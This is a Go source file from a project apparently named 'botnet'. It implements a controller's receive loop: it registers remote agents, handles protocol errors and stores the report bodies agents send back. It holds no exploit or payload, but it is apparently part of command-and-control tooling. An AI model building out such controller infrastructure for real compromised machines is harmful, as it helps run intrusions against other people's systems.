// ABOUTME: Per-agent receiver task: decodes responses and persists report bodies.
// ABOUTME: One instance runs per connection for the connection's lifetime.

package controller

import (
	"context"
	"errors"
	"log/slog"
	"time"

	"github.com/liaoxmichael/botnet/internal/store"
	"github.com/liaoxmichael/botnet/internal/zomp"
)

// historySaveTimeout bounds the database write on the receive path.
const historySaveTimeout = 5 * time.Second

// receive drains one agent's responses until the connection ends. Protocol
// errors are answered with NOT UNDERSTOOD and the loop continues; only
// connection loss ends the task. The registry entry stays in place so
// console indexes keep their meaning.
func (m *Manager) receive(entry *AgentEntry) {
	defer m.wg.Done()

	logger := m.logger.With("agent_id", entry.ID, "addr", entry.Addr)
	dec := zomp.NewDecoder(entry.conn, zomp.RoleController)

	for {
		msg, err := dec.Next()
		switch {
		case errors.Is(err, zomp.ErrConnectionClosed):
			entry.closed.Store(true)
			m.metrics.ConnectedAgents.Dec()
			logger.Info("agent disconnected")
			return
		case errors.Is(err, zomp.ErrMalformedHeader):
			m.metrics.ProtocolErrors.Inc()
			logger.Warn("unparseable response", "error", err)
			if err := entry.send(&zomp.Message{Code: zomp.CodeNotUnderstood, Text: "NOT UNDERSTOOD"}); err != nil {
				logger.Warn("sending NOT UNDERSTOOD", "error", err)
			}
			continue
		case err != nil:
			// Local close during shutdown lands here too.
			entry.closed.Store(true)
			m.metrics.ConnectedAgents.Dec()
			select {
			case <-m.done:
			default:
				logger.Warn("receive failed", "error", err)
			}
			return
		}

		logger.Debug("response received",
			"code", msg.Code,
			"text", msg.Text,
			"invocation", msg.Invocation,
		)

		switch msg.Code {
		case zomp.CodeReady:
			if err := entry.send(&zomp.Message{Code: zomp.CodeAccept, Text: "ACCEPT"}); err != nil {
				logger.Warn("sending ACCEPT", "error", err)
				continue
			}
			logger.Info("agent registered")
		case zomp.CodeBadRequest, zomp.CodeScriptNotFound:
			logger.Warn("agent reported an error", "code", msg.Code, "text", msg.Text)
		case zomp.CodeRunCached, zomp.CodeReportBody:
			if len(msg.Body) == 0 {
				continue
			}
			m.persist(entry, msg, logger)
		default:
			logger.Info("agent status", "code", msg.Code, "text", msg.Text, "invocation", msg.Invocation)
		}
	}
}

// persist writes a report body to the file sink and, when history is
// enabled, records it in the database.
func (m *Manager) persist(entry *AgentEntry, msg *zomp.Message, logger *slog.Logger) {
	if err := m.sink.Persist(entry.Addr, msg.Invocation, msg.Body); err != nil {
		logger.Warn("writing report file", "invocation", msg.Invocation, "error", err)
	} else {
		logger.Info("report persisted", "invocation", msg.Invocation, "body_bytes", len(msg.Body))
	}
	m.metrics.ReportsReceived.Inc()

	if m.history == nil {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), historySaveTimeout)
	defer cancel()
	err := m.history.SaveReport(ctx, &store.Report{
		AgentID:    entry.ID,
		RemoteAddr: entry.Addr,
		Invocation: msg.Invocation,
		Body:       msg.Body,
	})
	if err != nil {
		logger.Warn("recording report history", "invocation", msg.Invocation, "error", err)
	}
}
